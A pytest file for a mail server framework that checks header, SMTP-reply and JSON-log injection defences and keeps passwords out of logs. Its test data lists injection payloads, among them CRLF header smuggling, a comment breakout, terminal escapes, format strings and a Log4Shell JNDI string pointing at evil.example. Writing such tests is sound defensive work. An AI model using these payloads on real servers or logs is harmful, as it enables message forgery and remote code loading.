"""Header and log injection: what a stranger writes stays inside its field, string or line."""

from __future__ import annotations

import base64
import email
import email.policy
import json
import re
from pathlib import Path
from typing import Any

import pytest
from tables_kit import INBOUND, MAILBOXES, Composed, inbound
from twisted.internet.task import Clock

from mailframe.message import Event
from mailframe.mime.write import field_octets
from mailframe.queue.bounce import Notice, Original, Report, build
from mailframe.reception.header import received
from mailframe.smtp.address import Mailbox
from mailframe.smtp.grammar import parse_reply_line
from mailframe.smtp.reply import Reply
from mailframe.testing.values import client, envelope, recipient, site
from mailframe_plugins.observe_log import Log, Settings, line

LOG = """
[[observe]]
plugin = "log"
file = "log.json"
"""

#: what a HELO name may hold -> its source
NAMES = {
    "a\r\nX-Evil: yes": "CWE-113: CRLF",
    "a\nX-Evil: yes": "CWE-113: a bare LF",
    "a\rX-Evil: yes": "CWE-113: a bare CR",
    "a\0b": "NUL",
    "a) by evil.example (b": "RFC 5322 section 3.2.2: the end of the comment",
    "a(((((b": "comments in comments",
    "a; Thu, 1 Jan 1970 00:00:00 +0000": "RFC 5321 section 4.4: the date's semicolon",
    "a from b by c with d id e": "the clauses of Received",
    'a"b\\c': "quotes and backslashes",
    "\x1b[2J": "an escape sequence for the terminal of who reads the log",
    "${jndi:ldap://evil.example/a}": "CVE-2021-44228, a log that is interpreted",
    "{log_level}{session}": "format strings of Twisted's logger",
    "%s%n%x": "format strings of C",
    "a\u2028b\u2029c\x85d": "line ends of Unicode",
    "\u202egnp.exe": "right-to-left override",
    "x" * 10_000: "10,000 octets",
    "🦆.example": "not ASCII",
}


@pytest.mark.parametrize("smtputf8", [False, True])
@pytest.mark.parametrize("name", NAMES, ids=NAMES.values())
def test_hello_in_received(name: str, smtputf8: bool) -> None:
    """Even a name that no grammar let through leaves Received one field of one shape."""
    around = envelope(client=client(hello=name), smtputf8=smtputf8)
    field = received(around, "mx.example.org").decode()
    assert re.fullmatch(
        r"Received: from \S{1,255} \(\[192\.0\.2\.7\]\)\r\n"
        r"\tby mx\.example\.org with \w+\r\n\tid M1;\r\n\t[^\r\n;()]+\r\n",
        field,
    ), field


@pytest.mark.parametrize("name", NAMES, ids=NAMES.values())
def test_hello_on_the_wire(tmp_path: Path, name: str) -> None:
    """Refused, or harmless in the stored message; nothing of it is a field of its own."""
    place = inbound(tmp_path)
    talk = place.connect()
    talk.send(f"EHLO {name}\r\n".encode())
    talk.heard()
    if talk.closed:  # nothing is read after a bare LF
        talk = place.connect()
    if not talk.protocol.session.client.hello:
        talk.say("EHLO client.example")
    talk.mail("bob")
    talk.message("Subject: x", "", "x")
    [whole] = place.whole
    parsed = email.message_from_bytes(whole, policy=email.policy.SMTP)
    assert parsed.keys() == ["Received", "Subject"]
    assert whole.count(b"\r\n") == whole.count(b"\n") == whole.count(b"\r")


@pytest.mark.parametrize("name", NAMES, ids=NAMES.values())
def test_events_in_the_json_log(name: str) -> None:
    """One event is one line of ASCII, which reads back as what was said."""
    facts = {"hello": name, "sender": name, name: "key", "signals": {"spf": name}}
    event = Event(1.0, "session", name, "", "M1", "S1", 0.0, facts)
    written = line(event)
    assert written.isascii() and written.endswith("\n")
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f]", written) and written.count("\n") == 1
    read = json.loads(written)
    assert (read["verdict"], read["hello"], read["stage"]) == (name, name, "session")


@pytest.mark.parametrize("field", ["time", "stage", "verdict", "plugin", "id", "session"])
def test_facts_cannot_pose_as_fields(field: str) -> None:
    """CWE-117: a fact of a field's name does not take its place."""
    event = Event(1.0, "relay", "550 5.7.1 no", "inbound", "M1", "S1", 0.0, {field: "forged"})
    read = json.loads(line(event))
    assert read[field] != "forged" and read[f"fact_{field}"] == "forged"


def test_a_whole_session_in_the_json_log(tmp_path: Path) -> None:
    """Every line that a hostile session leaves in the log is one JSON object."""
    place = Composed(tmp_path, INBOUND + LOG, files=MAILBOXES)
    talk = place.connect()
    for name in NAMES:
        for verb in ("EHLO ", "MAIL FROM:<", "RCPT TO:<", "AUTH PLAIN ", "VRFY ", ""):
            talk.send(f"{verb}{name}>\r\n".encode()[:2000] + b"\r\n")
        if talk.closed:
            talk = place.connect()
    talk.disconnect()
    place.clock.advance(1)
    rows = (tmp_path / "log.json").read_bytes().split(b"\n")
    assert rows.pop() == b"" and len(rows) > 20
    assert all(json.loads(row)["stage"] for row in rows)
    assert not re.search(rb"[\x00-\x09\x0b-\x1f\x7f-\xff]", b"".join(rows))


@pytest.mark.parametrize("name", NAMES, ids=NAMES.values())
def test_what_filters_write(name: str) -> None:
    """A filter that puts a stranger's text into a field writes one field at most."""
    for smtputf8 in (False, True):
        octets = field_octets(f"X-Seen: {name}", smtputf8)
        assert octets is not None
        rows = octets.split(b"\r\n")
        assert rows.pop() == b"" and rows[0].startswith(b"X-Seen:")
        assert all(row[:1] in b" \t" and row.strip() for row in rows[1:])
        assert all(len(row) <= 998 for row in rows)
        assert not re.search(rb"\r(?!\n)|(?<!\r)\n|\0|\x1b", octets)
        assert field_octets(f"{name}: x", smtputf8) is None or name.isascii()


@pytest.mark.parametrize("name", NAMES, ids=NAMES.values())
def test_what_remote_hosts_say(name: str) -> None:
    """A remote reply is cleaned when read, and is no field of its own in a report."""
    try:
        text = parse_reply_line(b"550 5.1.1 " + name.encode()).text
    except ValueError:
        return
    told = Notice("failed", recipient(), Reply(550, text[:2000], "5.1.1"), "mx.evil.example")
    octets = build(
        Report(
            [told], hostname="mx.example.org", sender=Mailbox("MAILER-DAEMON", "mx.example.org"),
            to=Mailbox("alice", "client.example"), id="R1", now=1.0, arrived=0.0, until=9.0,
            original=Original(b"Subject: x\r\nX: y\r\n\r\nx\r\n", True),
        )
    )  # fmt: skip
    parsed: Any = email.message_from_bytes(octets, policy=email.policy.SMTP)
    assert parsed.get_content_type() == "multipart/report" and len(parsed.get_payload()) == 3
    status = parsed.get_payload()[1].get_payload()
    assert len(status) == 2 and "X-Evil" not in status[1]
    assert octets.count(b"\n") == octets.count(b"\r\n")


@pytest.mark.parametrize(
    "text", ["a\r\n250 ok", "a\r250 ok", "a\0", "a\x1b[2J", "a\x7f"], ids=ascii
)
def test_replies_hold_no_controls(text: str) -> None:
    """A plugin cannot make a second reply out of a stranger's words: it raises when written."""
    with pytest.raises(ValueError, match="control"):
        Reply(550, text, "5.1.1")


def test_replies_of_several_lines_stay_one() -> None:
    """A line break makes a continuation, whatever the line looks like."""
    wire = Reply(550, "no\n250 2.0.0 OK\n" + "ü" * 600, "5.1.1").to_bytes()
    rows = wire.split(b"\r\n")[:-1]
    assert all(row.startswith(b"550-5.1.1 ") for row in rows[:-1])
    assert rows[-1].startswith(b"550 5.1.1 ") and wire.isascii()
    assert all(len(row) <= 510 for row in rows)


SECRETS = ("AUTH PLAIN {}", "auth plain {}", "AUTH PLAIN {} x", "AUTH  PLAIN {}", "AUTHPLAIN {}")


@pytest.mark.parametrize("how", SECRETS)
def test_passwords_are_in_no_log(tmp_path: Path, how: str) -> None:
    """CWE-532: also where the line is refused, or half of it is pipelined behind a refusal."""
    secret = base64.b64encode(b"\0alice\0topsecret").decode()
    place = Composed(tmp_path, INBOUND + LOG, files=MAILBOXES)
    talk = place.greeted()
    talk.say(how.format(secret), secret)
    talk.disconnect()
    place.clock.advance(1)
    assert secret[:12] not in (tmp_path / "log.json").read_text()


def test_the_log_takes_odd_events(tmp_path: Path) -> None:
    """What JSON cannot say is said in Python's words; nothing raises, nothing is lost."""
    clock = Clock()
    log = Log(Settings("log.json"), site(tmp_path, reactor=clock))
    loop: dict[str, object] = {}
    loop["loop"] = loop
    odd: list[Any] = [b"\xff\n", {1: 2}, float("nan"), "\ud800", loop, object()]
    for number, fact in enumerate(odd):
        log.observe(Event(float(number), "x", "y", facts={"fact": fact}))
    clock.advance(1)
    rows = (tmp_path / "log.json").read_text().splitlines()
    assert len(rows) == len(odd) and all(json.loads(row)["stage"] == "x" for row in rows)
